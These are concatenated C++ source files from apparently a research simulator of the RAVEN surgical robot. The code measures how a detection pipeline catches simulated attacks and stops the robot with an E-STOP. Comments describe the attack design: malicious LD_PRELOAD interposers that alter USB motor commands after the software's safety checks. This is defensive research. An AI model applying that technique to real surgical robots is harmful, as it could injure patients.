  cfg.plant.seed = params.seed * 31 + 7;

  if (thresholds) {
    PipelineConfig pipe;
    pipe.estimator.model = RavenDynamicsParams::raven_defaults().with_calibration_error(
        params.model_calibration_error);
    pipe.estimator.solver = params.detector_solver;
    pipe.estimator.step = params.detector_step;
    pipe.estimator.channel = cfg.channel;
    pipe.detector.thresholds = *thresholds;
    pipe.detector.fusion = params.fusion;
    pipe.detector.ee_jump_limit = params.ee_jump_limit;
    pipe.mitigation = MitigationStrategy::kEStop;
    pipe.mitigation_enabled = mitigation == MitigationMode::kArmed;
    cfg.detection = pipe;
  }
  return cfg;
}

AttackRunResult run_attack_session(const SessionParams& params, const AttackSpec& spec,
                                   const std::optional<DetectionThresholds>& thresholds,
                                   MitigationMode mitigation) {
  CampaignJob job;
  job.params = params;
  job.attack = spec;
  job.mitigation = mitigation;
  job.thresholds = thresholds;
  return CampaignRunner::execute(job, 0).run;
}

}  // namespace rg
