// Experiment harness: standardized single sessions and labelled attack
// runs — the session-level primitives under the campaign engine.
//
// Batch APIs live one layer up: sim/campaign.hpp executes sets of these
// sessions across a worker pool (and hosts learn_thresholds);
// sim/threshold_store.hpp persists learned thresholds.
#pragma once

#include <cstdint>
#include <optional>

#include "attack/attack_engine.hpp"
#include "core/thresholds.hpp"
#include "ode/integrators.hpp"
#include "sim/surgical_sim.hpp"

namespace rg {

/// Everything that defines one reproducible teleoperation session.
struct SessionParams {
  double duration_sec = 6.0;
  std::uint64_t seed = 1;

  // Trajectory synthesis.
  int trajectory_waypoints = 6;
  double trajectory_speed = 0.02;  ///< m/s
  bool tremor = true;

  // Session timing.
  double pedal_down_time = 1.2;  ///< after auto-start; homing takes 0.8 s

  // Detector configuration.
  SolverKind detector_solver = SolverKind::kEuler;
  double detector_step = 1.0e-3;
  /// Scale applied to the detector model's physical coefficients relative
  /// to the plant — the residual of the paper's manual calibration.
  double model_calibration_error = 0.97;
  FusionPolicy fusion = FusionPolicy::kAllThree;
  double ee_jump_limit = 1.0e-3;
};

/// What the detection pipeline does with an alarm: watch and record only,
/// or actually drive the mitigation chain (block + E-STOP).
enum class MitigationMode : std::uint8_t {
  kObserveOnly,  ///< pipeline raises alarms but never intervenes
  kArmed,        ///< alarms block the command and force E-STOP
};

constexpr std::string_view to_string(MitigationMode mode) noexcept {
  switch (mode) {
    case MitigationMode::kObserveOnly: return "observe-only";
    case MitigationMode::kArmed: return "armed";
  }
  return "unknown";
}

/// Build a SimConfig for a session.  `thresholds` enables the detection
/// pipeline; `mitigation` selects whether its alarms actually intervene.
[[nodiscard]] SimConfig make_session(const SessionParams& params,
                                     const std::optional<DetectionThresholds>& thresholds,
                                     MitigationMode mitigation);

/// One labelled attack run.
struct AttackRunResult {
  AttackSpec spec{};
  RunOutcome outcome{};
  std::uint64_t injections = 0;
  std::optional<std::uint64_t> first_injection_tick{};

  /// Ground truth: did the attack cause a real physical impact?
  [[nodiscard]] bool impact() const noexcept { return outcome.adverse_impact(); }
};

/// Execute one attack session.  The detection pipeline observes (and,
/// when `mitigation` is kArmed, intervenes); RAVEN's own checks always
/// run.  Equivalent to a one-job campaign.
[[nodiscard]] AttackRunResult run_attack_session(
    const SessionParams& params, const AttackSpec& spec,
    const std::optional<DetectionThresholds>& thresholds,
    MitigationMode mitigation = MitigationMode::kObserveOnly);

}  // namespace rg
