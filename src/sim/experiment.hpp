// Experiment harness: standardized sessions, threshold learning, and
// labelled attack runs — the machinery behind Table IV and Figs. 8/9.
#pragma once

#include <cstdint>
#include <optional>
#include <string>

#include "attack/attack_engine.hpp"
#include "core/thresholds.hpp"
#include "ode/integrators.hpp"
#include "sim/surgical_sim.hpp"

namespace rg {

/// Everything that defines one reproducible teleoperation session.
struct SessionParams {
  double duration_sec = 6.0;
  std::uint64_t seed = 1;

  // Trajectory synthesis.
  int trajectory_waypoints = 6;
  double trajectory_speed = 0.02;  ///< m/s
  bool tremor = true;

  // Session timing.
  double pedal_down_time = 1.2;  ///< after auto-start; homing takes 0.8 s

  // Detector configuration.
  SolverKind detector_solver = SolverKind::kEuler;
  double detector_step = 1.0e-3;
  /// Scale applied to the detector model's physical coefficients relative
  /// to the plant — the residual of the paper's manual calibration.
  double model_calibration_error = 0.97;
  FusionPolicy fusion = FusionPolicy::kAllThree;
  double ee_jump_limit = 1.0e-3;
};

/// Build a SimConfig for a session.  `thresholds` enables the detection
/// pipeline; `mitigation` arms it (otherwise observe-only).
[[nodiscard]] SimConfig make_session(const SessionParams& params,
                                     const std::optional<DetectionThresholds>& thresholds,
                                     bool mitigation);

/// Learn detection thresholds from `runs` fault-free sessions with
/// different seeds/trajectories (paper: 600 runs, 99.8–99.9th percentile
/// of per-run maxima).
[[nodiscard]] DetectionThresholds learn_thresholds(const SessionParams& base, int runs,
                                                   double percentile_value = 99.85,
                                                   double margin = 1.0);

/// Threshold cache (learning is the expensive step shared by several
/// benches).  Files are plain text, 9 numbers.
void save_thresholds(const DetectionThresholds& thresholds, const std::string& path);
[[nodiscard]] std::optional<DetectionThresholds> load_thresholds(const std::string& path);

/// Learn (or load from `cache_path` if present) the standard thresholds.
[[nodiscard]] DetectionThresholds thresholds_cached(const SessionParams& base, int runs,
                                                    const std::string& cache_path);

/// One labelled attack run.
struct AttackRunResult {
  AttackSpec spec{};
  RunOutcome outcome{};
  std::uint64_t injections = 0;
  std::optional<std::uint64_t> first_injection_tick{};

  /// Ground truth: did the attack cause a real physical impact?
  [[nodiscard]] bool impact() const noexcept { return outcome.adverse_impact(); }
};

/// Execute one attack session.  The detection pipeline observes (and
/// mitigates if `mitigation`); RAVEN's own checks always run.
[[nodiscard]] AttackRunResult run_attack_session(
    const SessionParams& params, const AttackSpec& spec,
    const std::optional<DetectionThresholds>& thresholds, bool mitigation = false);

}  // namespace rg
