#include "sim/lockstep.hpp"

#include <vector>

#include "common/error.hpp"
#include "obs/span.hpp"

namespace rg {

namespace {

std::array<PhysicalRobot*, kBatchLanes> gather_plants(std::span<SurgicalSim* const> sims) {
  std::array<PhysicalRobot*, kBatchLanes> plants{};
  for (std::size_t l = 0; l < sims.size(); ++l) plants[l] = &sims[l]->plant();
  return plants;
}

}  // namespace

LockstepGroup::LockstepGroup(std::span<SurgicalSim* const> sims)
    : plants_([&]() {
        require(!sims.empty() && sims.size() <= kBatchLanes,
                "LockstepGroup: 1..kBatchLanes sims required");
        for (SurgicalSim* sim : sims) require(sim != nullptr, "LockstepGroup: null sim");
        const auto plants = gather_plants(sims);
        return BatchPlant(std::span<PhysicalRobot* const>{plants.data(), sims.size()});
      }()) {
  n_ = sims.size();
  for (std::size_t l = 0; l < n_; ++l) {
    require(compatible(*sims[0], *sims[l]), "LockstepGroup: incompatible sims in one group");
    sims_[l] = sims[l];
  }
  if (sims_[0]->pipeline() != nullptr) {
    est_model_.emplace(sims_[0]->pipeline()->estimator().config().model);
  }
}

bool LockstepGroup::compatible(const SurgicalSim& a, const SurgicalSim& b) {
  if (!BatchPlant::compatible(a.config_.plant, b.config_.plant)) return false;
  const bool a_det = a.config_.detection.has_value();
  const bool b_det = b.config_.detection.has_value();
  if (a_det != b_det) return false;
  if (!a_det) return true;
  const EstimatorConfig& ea = a.config_.detection->estimator;
  const EstimatorConfig& eb = b.config_.detection->estimator;
  return ea.model == eb.model && ea.solver == eb.solver && ea.step == eb.step;
}

void LockstepGroup::step() {
  // Phase A — everything upstream of the estimator's model solve.
  for (std::size_t l = 0; l < n_; ++l) sims_[l]->tick_begin();

  // Phase B — one batched solve for the lanes that screened a command
  // this tick.  Lanes that didn't (disengaged, undecodable, no feedback,
  // no pipeline) get a discarded broadcast lane.
  std::array<RavenDynamicsModel::State, kBatchLanes> next{};
  std::array<bool, kBatchLanes> solving{};
  std::size_t first_solving = kBatchLanes;
  for (std::size_t l = 0; l < n_; ++l) {
    solving[l] = sims_[l]->needs_solve();
    if (solving[l] && first_solving == kBatchLanes) first_solving = l;
  }
  if (first_solving != kBatchLanes) {
    RG_SPAN("estimator.solve_batch");
    const PendingSolve& ref = sims_[first_solving]->pending_solve();
    BatchState x;
    BatchLanes3 currents{};
    x.set_lane(0, ref.x0);
    for (std::size_t i = 0; i < 3; ++i) currents[i].fill(ref.currents[i]);
    x.broadcast(0);
    for (std::size_t l = 0; l < n_; ++l) {
      if (!solving[l]) continue;
      const PendingSolve& pending = sims_[l]->pending_solve();
      // compatible() pinned model/solver/step at construction; the
      // per-tick pendings can only carry those same values.
      x.set_lane(l, pending.x0);
      for (std::size_t i = 0; i < 3; ++i) currents[i][l] = pending.currents[i];
    }
    est_model_->step(x, currents, ref.h, ref.solver);
    for (std::size_t l = 0; l < n_; ++l) {
      if (solving[l]) next[l] = x.lane(l);
    }
  }

  // Phase C — verdicts, mitigation, board latch, PLC.
  std::array<PlantDrive, kBatchLanes> drives{};
  for (std::size_t l = 0; l < n_; ++l) drives[l] = sims_[l]->tick_resolve(next[l]);

  // Phase D — one batched plant period over all lanes.
  {
    RG_SPAN("plant.step_batch");
    plants_.step_control_period(std::span<const PlantDrive>{drives.data(), n_});
  }

  // Phase E — encoders, oracle, telemetry, clocks.
  for (std::size_t l = 0; l < n_; ++l) sims_[l]->tick_finish();
}

void LockstepGroup::run(double seconds) {
  const auto ticks = static_cast<std::uint64_t>(seconds / kControlPeriodSec);
  for (std::uint64_t i = 0; i < ticks; ++i) step();
}

}  // namespace rg
