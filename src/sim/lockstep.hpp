// LockstepGroup: up to kBatchLanes SurgicalSims advanced tick-by-tick in
// lockstep, so the two model-physics hot spots — the estimator's one-step
// solve and the plant's 20-substep RK4 loop — run as batched SoA kernels
// across the group instead of lane-at-a-time scalar code.
//
// Each tick interleaves the sims' phase-split step():
//
//   A. every sim runs tick_begin()      (console → control → screening)
//   B. one batched estimator solve for the lanes that need one
//   C. every sim runs tick_resolve()    (verdict, mitigation, board, PLC)
//   D. one BatchPlant::step_control_period over all lanes
//   E. every sim runs tick_finish()     (encoders, oracle, telemetry)
//
// Because the batched kernels are bit-identical to their scalar twins and
// every per-sim phase executes the exact statements the scalar step()
// would, each sim's trajectory, telemetry, and outcome are byte-for-byte
// what a solo sim.run() would have produced.  The campaign engine relies
// on that to batch homogeneous jobs without perturbing report determinism
// (tests/test_batch_dynamics.cpp asserts it).
#pragma once

#include <array>
#include <cstddef>
#include <optional>
#include <span>

#include "dynamics/batch_model.hpp"
#include "plant/batch_plant.hpp"
#include "sim/surgical_sim.hpp"

namespace rg {

class LockstepGroup {
 public:
  /// All sims must be pairwise compatible() and at most kBatchLanes.
  /// Borrowed, not owned — the sims must outlive the group.
  explicit LockstepGroup(std::span<SurgicalSim* const> sims);

  /// True when two sims may share a lockstep batch: plant configs equal
  /// modulo seed, pipelines either both absent or running the same
  /// estimator model/solver/step (the parts the batched solve shares;
  /// thresholds, gains, and attacks may differ per lane).
  [[nodiscard]] static bool compatible(const SurgicalSim& a, const SurgicalSim& b);

  /// One lockstep tick across every sim.
  void step();

  /// Run all sims for a duration of simulated seconds (same tick count
  /// SurgicalSim::run(seconds) would execute).
  void run(double seconds);

  [[nodiscard]] std::size_t lanes() const noexcept { return n_; }

 private:
  std::array<SurgicalSim*, kBatchLanes> sims_{};
  std::size_t n_ = 0;
  BatchPlant plants_;
  /// Batched twin of the sims' estimator model; absent when the group
  /// runs without detection pipelines.
  std::optional<BatchRavenModel> est_model_;
};

}  // namespace rg
