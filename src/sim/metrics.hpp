// Binary-classification metrics for detection experiments (Table IV).
#pragma once

#include <cstdint>

namespace rg {

/// Confusion matrix over labelled runs: "positive" = the run had a real
/// adverse physical impact; "predicted positive" = the detector alarmed.
struct ConfusionMatrix {
  std::uint64_t tp = 0;
  std::uint64_t fp = 0;
  std::uint64_t tn = 0;
  std::uint64_t fn = 0;

  void add(bool truth_positive, bool predicted_positive) noexcept {
    if (truth_positive) {
      predicted_positive ? ++tp : ++fn;
    } else {
      predicted_positive ? ++fp : ++tn;
    }
  }

  [[nodiscard]] std::uint64_t total() const noexcept { return tp + fp + tn + fn; }

  /// ACC = (TP+TN) / all
  [[nodiscard]] double accuracy() const noexcept {
    const std::uint64_t n = total();
    return n == 0 ? 0.0 : static_cast<double>(tp + tn) / static_cast<double>(n);
  }
  /// TPR (recall) = TP / (TP+FN)
  [[nodiscard]] double tpr() const noexcept {
    const std::uint64_t p = tp + fn;
    return p == 0 ? 0.0 : static_cast<double>(tp) / static_cast<double>(p);
  }
  /// FPR = FP / (FP+TN)
  [[nodiscard]] double fpr() const noexcept {
    const std::uint64_t n = fp + tn;
    return n == 0 ? 0.0 : static_cast<double>(fp) / static_cast<double>(n);
  }
  /// Precision = TP / (TP+FP)
  [[nodiscard]] double precision() const noexcept {
    const std::uint64_t pp = tp + fp;
    return pp == 0 ? 0.0 : static_cast<double>(tp) / static_cast<double>(pp);
  }
  /// F1 = harmonic mean of precision and recall.
  [[nodiscard]] double f1() const noexcept {
    const double p = precision();
    const double r = tpr();
    return (p + r) == 0.0 ? 0.0 : 2.0 * p * r / (p + r);
  }
};

}  // namespace rg
