#include "sim/surgical_sim.hpp"

#include <algorithm>
#include <utility>

#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace rg {

namespace {
JointVector default_initial_joints(const ControlConfig& control) {
  // Slightly off the homing target so the Init phase does real work.
  JointVector q = control.limits.midpoint();
  q[0] += 0.05;
  q[1] -= 0.04;
  q[2] += 0.01;
  return q;
}
}  // namespace

SurgicalSim::SurgicalSim(SimConfig config)
    : config_(std::move(config)),
      console_(config_.trajectory, config_.pedal, config_.orientation),
      udp_(config_.network),
      control_(config_.control),
      plc_(config_.plc),
      board_(plc_, config_.channel),
      plant_(config_.plant) {
  require(config_.trajectory != nullptr, "SimConfig.trajectory must be set");
  if (config_.detection) pipeline_.emplace(*config_.detection);

  plant_.set_joint_config(
      config_.initial_joints.value_or(default_initial_joints(config_.control)));
  board_.latch_encoders(plant_.motor_positions(), plant_.wrist_positions());
  last_feedback_ = board_.build_feedback();
}

void SurgicalSim::install(const AttackArtifacts& artifacts) {
  if (artifacts.console_path) itp_chain_.add(artifacts.console_path);
  if (artifacts.usb_write) write_chain_.add(artifacts.usb_write);
  if (artifacts.usb_read) read_chain_.add(artifacts.usb_read);
  if (artifacts.math_hooks) control_.set_math_hooks(*artifacts.math_hooks);
  installed_ = artifacts;  // keep the handles for injection-count events
}

void SurgicalSim::emit_event(std::string_view kind,
                             std::initializer_list<obs::EventField> fields) {
  if (events_ == nullptr) return;
  std::vector<obs::EventField> all = event_context_;
  all.insert(all.end(), fields.begin(), fields.end());
  events_->emit(kind, clock_.ticks(), all);
}

void SurgicalSim::dump_flight(std::string_view reason) {
  if (flight_ == nullptr) return;
  const bool first = !flight_->triggered();
  flight_->trigger(reason, clock_.ticks());
  if (!first || events_ == nullptr) return;
  std::vector<obs::EventField> fields = event_context_;
  fields.emplace_back("reason", reason);
  fields.emplace_back("frames", static_cast<std::uint64_t>(flight_->dump().size()));
  std::string fragment = obs::EventLog::render_fields(fields);
  fragment += ", \"ring\": ";
  fragment += flight_->frames_json();
  events_->emit_raw("flight_dump", clock_.ticks(), fragment);
}

void SurgicalSim::press_start() {
  control_.press_start();
  plc_.press_start();
  started_ = true;
}

void SurgicalSim::step() {
  RG_SPAN("sim.tick");
  RG_COUNT("rg.sim.ticks", 1);
  tick_begin();
  RavenDynamicsModel::State next{};
  if (needs_solve()) next = pipeline_->estimator().solve(scratch_.screen.pending);
  const PlantDrive drive = tick_resolve(next);
  {
    RG_SPAN("plant.step");
    plant_.step_control_period(drive.currents, drive.brakes_engaged, drive.wrist_currents);
  }
  tick_finish();
}

void SurgicalSim::tick_begin() {
  scratch_ = TickScratch{};
  if (config_.auto_start && !started_ && clock_.ticks() >= config_.start_delay_ticks) {
    press_start();
  }
  const std::uint64_t tick = clock_.ticks();
  scratch_.tick = tick;

  // 1. Console emits an ITP datagram over the (lossy) network.  The
  //    oracle remembers the *clean* operator command before any attack
  //    wrapper can touch it.
  {
    const ItpPacket pkt = console_.tick();
    clean_pedal_ = pkt.pedal_down;
    clean_increment_ = pkt.pos_increment;
    const ItpBytes bytes = encode_itp(pkt);
    udp_.send({bytes.begin(), bytes.end()});
  }
  udp_.tick();

  // 2. Control host receives; the console-path interposer (scenario A)
  //    sees the buffer after recvfrom returns.
  std::optional<std::vector<std::uint8_t>> itp_bytes = udp_.receive();
  std::optional<std::span<const std::uint8_t>> itp_view;
  if (itp_bytes) {
    if (itp_chain_.process(std::span{*itp_bytes}, tick)) {
      itp_view = std::span<const std::uint8_t>{*itp_bytes};
    }
    // dropped by the wrapper: the software never sees the datagram
  }

  // 3. USB read: feedback from the board through the read interposers.
  FeedbackBytes feedback = board_.build_feedback();
  if (read_chain_.process(std::span{feedback}, tick)) {
    last_feedback_ = feedback;
  }
  // (a dropped read leaves the software consuming its previous buffer)

  // 4. The 1 kHz control cycle.
  scratch_.cmd = control_.tick(itp_view, std::span{last_feedback_});

  // 5. USB write: the malicious wrapper mutates the buffer after every
  //    software safety check has already passed (the TOCTOU window).
  scratch_.deliver = write_chain_.process(std::span{scratch_.cmd}, tick);

  // 6a. Detection pipeline (trusted hardware, downstream of the
  //     attacker): feedback + screening up to the model solve.
  if (pipeline_) {
    pipeline_->set_engaged(!plc_.brakes_engaged());
    MotorVector encoder_angles;
    for (std::size_t i = 0; i < 3; ++i) encoder_angles[i] = board_.encoder_angle(i);
    pipeline_->observe_feedback(encoder_angles);
    if (scratch_.deliver) {
      scratch_.screen = pipeline_->begin_process(std::span{scratch_.cmd});
      scratch_.screened = true;
    }
  }
}

PlantDrive SurgicalSim::tick_resolve(const RavenDynamicsModel::State& next) {
  const std::uint64_t tick = scratch_.tick;

  // 6b. Verdict + mitigation from the solved one-step-ahead state.
  if (scratch_.screened) {
    scratch_.det = pipeline_->finish_process(scratch_.screen, next);
    const DetectionPipeline::Outcome& det = scratch_.det;
    if (detection_observer_) detection_observer_(det);
    if (det.alarm && !outcome_.detector_alarm_tick) outcome_.detector_alarm_tick = tick;
    if (det.blocked) {
      scratch_.cmd = det.bytes;
      // E-STOP mitigation: the trusted module also asserts the estop
      // line so the PLC drops the brakes immediately.
      if (config_.detection->mitigation == MitigationStrategy::kEStop &&
          config_.detection->mitigation_enabled) {
        plc_.press_estop();
      }
    }
  }

  // 7. Board latches whatever bytes arrived.
  if (scratch_.deliver) {
    (void)board_.receive_command(std::span<const std::uint8_t>{scratch_.cmd});
  }

  // 8. PLC safety processor tick (watchdog timeout check).
  plc_.tick();

  // 9 happens between tick_resolve and tick_finish: the caller executes
  // the returned drive (scalar plant step or a BatchPlant lane).
  return PlantDrive{board_.modeled_currents(), plc_.brakes_engaged(), board_.wrist_currents()};
}

void SurgicalSim::tick_finish() {
  const std::uint64_t tick = scratch_.tick;
  const bool screened_this_tick = scratch_.screened;
  const DetectionPipeline::Outcome& det = scratch_.det;
  const bool alarm_this_tick = screened_this_tick && det.alarm;
  const double predicted_disp = det.prediction.ee_displacement;

  // 10. Encoders for the next cycle.
  board_.latch_encoders(plant_.motor_positions(), plant_.wrist_positions());

  // 11. Ground-truth oracle + bookkeeping.
  update_oracle();
  if (control_.safety_fault_latched() && !outcome_.raven_fault_tick) {
    outcome_.raven_fault_tick = tick;
  }
  if (plc_.estop_latched() && !outcome_.plc_estop_tick) {
    outcome_.plc_estop_tick = tick;
  }
  if (plant_.cable_snapped()) outcome_.cable_snapped = true;

  if (trace_ != nullptr || flight_ != nullptr) {
    TraceSample s;
    s.tick = tick;
    s.ee_truth = plant_.end_effector();
    s.joint_pos = plant_.joint_positions();
    s.joint_vel = plant_.joint_velocities();
    s.motor_pos = plant_.motor_positions();
    s.motor_vel = plant_.motor_velocities();
    const CommandPacket& last = board_.last_command();
    s.dac = Vec3{static_cast<double>(last.dac[0]), static_cast<double>(last.dac[1]),
                 static_cast<double>(last.dac[2])};
    s.state = control_.state();
    s.brakes = plc_.brakes_engaged();
    s.detector_alarm = alarm_this_tick;
    s.predicted_ee_disp = predicted_disp;
    if (trace_ != nullptr) trace_->record(s);
    if (flight_ != nullptr) {
      obs::FlightFrame frame;
      frame.sample = s;
      frame.screened = screened_this_tick;
      frame.alarm = alarm_this_tick;
      frame.blocked = screened_this_tick && det.blocked;
      frame.motor_instant_vel = det.prediction.motor_instant_vel;
      frame.motor_instant_acc = det.prediction.motor_instant_acc;
      frame.joint_instant_vel = det.prediction.joint_instant_vel;
      frame.motor_vel_flag = det.verdict.motor_vel_flag;
      frame.motor_acc_flag = det.verdict.motor_acc_flag;
      frame.joint_vel_flag = det.verdict.joint_vel_flag;
      frame.ee_jump_flag = det.verdict.ee_jump_flag;
      flight_->record(frame);
    }
  }

  // --- telemetry events (edges only, so logs stay bounded) ----------------
  if (events_ != nullptr || flight_ != nullptr) {
    const RobotState state_now = control_.state();
    if (state_now != last_state_) {
      emit_event("state_transition",
                 {{"from", to_string(last_state_)}, {"to", to_string(state_now)}});
      last_state_ = state_now;
    }
    const std::uint64_t inj = installed_.injections();
    if (inj > 0 && last_injections_ == 0) {
      emit_event("attack_injection", {{"total_injections", inj}});
    }
    last_injections_ = inj;
    if (alarm_this_tick && !last_alarm_) {
      emit_event("detector_alarm",
                 {{"predicted_ee_disp", predicted_disp},
                  {"motor_vel_flag", det.verdict.motor_vel_flag},
                  {"motor_acc_flag", det.verdict.motor_acc_flag},
                  {"joint_vel_flag", det.verdict.joint_vel_flag},
                  {"ee_jump_flag", det.verdict.ee_jump_flag},
                  {"worst_axis", static_cast<std::uint64_t>(det.verdict.worst_axis)}});
      dump_flight("detector_alarm");
    }
    last_alarm_ = alarm_this_tick;
    const bool blocked_this_tick = screened_this_tick && det.blocked;
    if (blocked_this_tick && !last_blocked_) {
      emit_event("mitigation",
                 {{"strategy", config_.detection
                                   ? to_string(config_.detection->mitigation)
                                   : std::string_view{"none"}}});
    }
    last_blocked_ = blocked_this_tick;
    if (outcome_.raven_fault_tick && !raven_fault_reported_) {
      raven_fault_reported_ = true;
      emit_event("raven_fault", {{"tick", *outcome_.raven_fault_tick}});
    }
    if (outcome_.plc_estop_tick && !plc_estop_reported_) {
      plc_estop_reported_ = true;
      emit_event("plc_estop", {{"tick", *outcome_.plc_estop_tick}});
      dump_flight("plc_estop");
    }
    if ((outcome_.adverse_impact_tick || outcome_.cable_snapped) &&
        !adverse_impact_reported_) {
      adverse_impact_reported_ = true;
      emit_event("adverse_impact",
                 {{"max_ee_jump_window", outcome_.max_ee_jump_window},
                  {"cable_snapped", outcome_.cable_snapped}});
    }
  }

  clock_.tick();
}

void SurgicalSim::update_oracle() {
  // "Abrupt jump": the end effector moved >1 mm *beyond what the operator
  // commanded* within a short window.  The paper's tightest criterion is
  // 1-2 ms; we evaluate every window up to kOracleWindow ms so a jump the
  // PID failed to absorb is labelled an impact, while fast-but-commanded
  // surgical motion is not.
  const Position ee = plant_.end_effector();
  constexpr double kJumpLimit = 1.0e-3;  // 1 mm

  // Mirror of the operator's intent: integrate the *clean* console
  // increments while the robot is actively teleoperated; frozen when the
  // robot is halted (a halted robot cannot jump by intent).
  const bool active = control_.state() == RobotState::kPedalDown && !plc_.estop_latched();
  if (clean_pedal_ && active) {
    if (!clean_desired_valid_) {
      clean_desired_ = ee;  // anchor at the tool's position on engagement
      clean_desired_valid_ = true;
    } else {
      clean_desired_ += clean_increment_;
    }
  }
  const Position cmd = clean_desired_valid_ ? clean_desired_ : ee;

  const std::size_t lookback = std::min(ee_history_, kOracleWindow);
  double worst = 0.0;
  for (std::size_t k = 1; k <= lookback; ++k) {
    const std::size_t idx = (ee_head_ + ee_ring_.size() - k) % ee_ring_.size();
    const Vec3 actual_disp = ee - ee_ring_[idx];
    const Vec3 commanded_disp = cmd - cmd_ring_[idx];
    const double excess = (actual_disp - commanded_disp).norm();
    if (k == 1) outcome_.max_ee_jump_1ms = std::max(outcome_.max_ee_jump_1ms, excess);
    if (k == 2) outcome_.max_ee_jump_2ms = std::max(outcome_.max_ee_jump_2ms, excess);
    worst = std::max(worst, excess);
  }
  outcome_.max_ee_jump_window = std::max(outcome_.max_ee_jump_window, worst);
  if (worst > kJumpLimit && !outcome_.adverse_impact_tick) {
    outcome_.adverse_impact_tick = clock_.ticks();
  }

  ee_ring_[ee_head_] = ee;
  cmd_ring_[ee_head_] = cmd;
  ee_head_ = (ee_head_ + 1) % ee_ring_.size();
  if (ee_history_ < kOracleWindow) ++ee_history_;
}

void SurgicalSim::run(double seconds) {
  const auto ticks = static_cast<std::uint64_t>(seconds / kControlPeriodSec);
  for (std::uint64_t i = 0; i < ticks; ++i) step();
}

}  // namespace rg
