// SurgicalSim: the co-simulation harness (paper Fig. 7(a)).
//
// Wires the full system at 1 kHz:
//
//   master console --ITP/UDP--> [itp interposers] --> control software
//   control software --USB write--> [write interposers] --> detection
//   pipeline (optional, trusted) --> USB board --> motors --> PLANT
//   PLANT --> encoders --> USB board --USB read--> [read interposers]
//   --> control software;  PLC watches Byte 0's watchdog bit throughout.
//
// Attack wrappers are installed on the interposer chains — the same hops
// a malicious LD_PRELOAD library grabs on the real robot.  The detection
// pipeline sits downstream of the write interposers (trusted hardware),
// so it screens post-attack bytes.
//
// The harness also carries the ground-truth adverse-impact oracle: a
// >1 mm end-effector displacement within 1–2 ms (the paper's safety
// criterion, "based on feedback from expert surgeons"), plus cable-snap
// damage latching.
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "attack/attack_engine.hpp"
#include "attack/interposer.hpp"
#include "common/clock.hpp"
#include "control/control_software.hpp"
#include "core/pipeline.hpp"
#include "hw/plc.hpp"
#include "hw/usb_board.hpp"
#include "net/master_console.hpp"
#include "net/udp_channel.hpp"
#include "obs/events.hpp"
#include "obs/flight_recorder.hpp"
#include "plant/physical_robot.hpp"
#include "sim/trace.hpp"

namespace rg {

struct SimConfig {
  ControlConfig control{};
  PlantConfig plant{};
  PlcConfig plc{};
  MotorChannelConfig channel{};
  UdpChannelConfig network{};
  std::shared_ptr<const Trajectory> trajectory;
  PedalSchedule pedal = PedalSchedule::hold_from(1.2);
  OrientationMotion orientation{};
  /// Plant's initial joint configuration (defaults to just off the homing
  /// target so homing does real work).
  std::optional<JointVector> initial_joints{};
  /// Optional detection pipeline (the paper's contribution); nullopt
  /// reproduces the stock RAVEN system.
  std::optional<PipelineConfig> detection{};
  /// Press the start buttons automatically after `start_delay_ticks`.
  /// The lead-in leaves the robot visibly in E-STOP first, as on the real
  /// system — the offline packet analysis needs all four states.
  bool auto_start = true;
  std::uint32_t start_delay_ticks = 100;
};

/// Aggregated per-run outcome used by the experiment harnesses.
struct RunOutcome {
  double max_ee_jump_1ms = 0.0;   ///< largest |ee(t) - ee(t-1ms)| (m)
  double max_ee_jump_2ms = 0.0;   ///< largest |ee(t) - ee(t-2ms)| (m)
  double max_ee_jump_window = 0.0;  ///< largest excess displacement in any <=kOracleWindow ms window (m)
  std::optional<std::uint64_t> adverse_impact_tick{};  ///< first >1mm abrupt jump
  std::optional<std::uint64_t> raven_fault_tick{};     ///< software safety check fired
  std::optional<std::uint64_t> plc_estop_tick{};       ///< PLC latched E-STOP
  std::optional<std::uint64_t> detector_alarm_tick{};  ///< pipeline alarm
  bool cable_snapped = false;

  [[nodiscard]] bool adverse_impact() const noexcept {
    return adverse_impact_tick.has_value() || cable_snapped;
  }
  [[nodiscard]] bool raven_detected() const noexcept {
    return raven_fault_tick.has_value();
  }
  [[nodiscard]] bool detector_alarmed() const noexcept {
    return detector_alarm_tick.has_value();
  }
  /// Did the detector fire before the physical impact (preemptive)?
  [[nodiscard]] bool detected_preemptively() const noexcept {
    if (!detector_alarm_tick) return false;
    if (!adverse_impact_tick) return true;
    return *detector_alarm_tick <= *adverse_impact_tick;
  }
};

class SurgicalSim {
 public:
  explicit SurgicalSim(SimConfig config);

  /// Interposer chains (attack installation points).
  [[nodiscard]] InterposerChain& itp_chain() noexcept { return itp_chain_; }
  [[nodiscard]] InterposerChain& write_chain() noexcept { return write_chain_; }
  [[nodiscard]] InterposerChain& read_chain() noexcept { return read_chain_; }

  /// Install a full attack artifact set on the hops it compromises.
  void install(const AttackArtifacts& artifacts);

  /// One 1 kHz tick.
  void step();

  /// Run for a duration of simulated seconds.
  void run(double seconds);

  // --- component access -----------------------------------------------------
  [[nodiscard]] const SimClock& clock() const noexcept { return clock_; }
  [[nodiscard]] ControlSoftware& control() noexcept { return control_; }
  [[nodiscard]] PhysicalRobot& plant() noexcept { return plant_; }
  [[nodiscard]] Plc& plc() noexcept { return plc_; }
  [[nodiscard]] UsbBoard& board() noexcept { return board_; }
  [[nodiscard]] MasterConsole& console() noexcept { return console_; }
  [[nodiscard]] DetectionPipeline* pipeline() noexcept {
    return pipeline_ ? &*pipeline_ : nullptr;
  }
  [[nodiscard]] const RunOutcome& outcome() const noexcept { return outcome_; }

  /// Attach a trace recorder (caller owns it; must outlive the sim run).
  void set_trace(TraceRecorder* trace) noexcept { trace_ = trace; }

  /// Attach a structured safety-event log (caller owns it).  The sim
  /// emits state transitions, attack injections, detector alarms,
  /// mitigation actions, RAVEN faults, and PLC E-stops as they happen.
  /// `context` fields (e.g. a campaign job index) are prepended to every
  /// event so interleaved multi-session logs stay attributable.
  void set_event_log(obs::EventLog* events,
                     std::vector<obs::EventField> context = {}) {
    events_ = events;
    event_context_ = std::move(context);
  }

  /// Attach a flight recorder (caller owns it).  Every tick appends one
  /// frame; the first detector alarm or E-stop freezes the ring and — if
  /// an event log is attached — dumps the frames as a `flight_dump`
  /// event.
  void set_flight_recorder(obs::FlightRecorder* flight) noexcept { flight_ = flight; }

  /// Observe every detection-pipeline outcome (threshold learning, ROC
  /// sweeps).  Caller-owned callable; must outlive the sim run.
  using DetectionObserver = std::function<void(const DetectionPipeline::Outcome&)>;
  void set_detection_observer(DetectionObserver observer) {
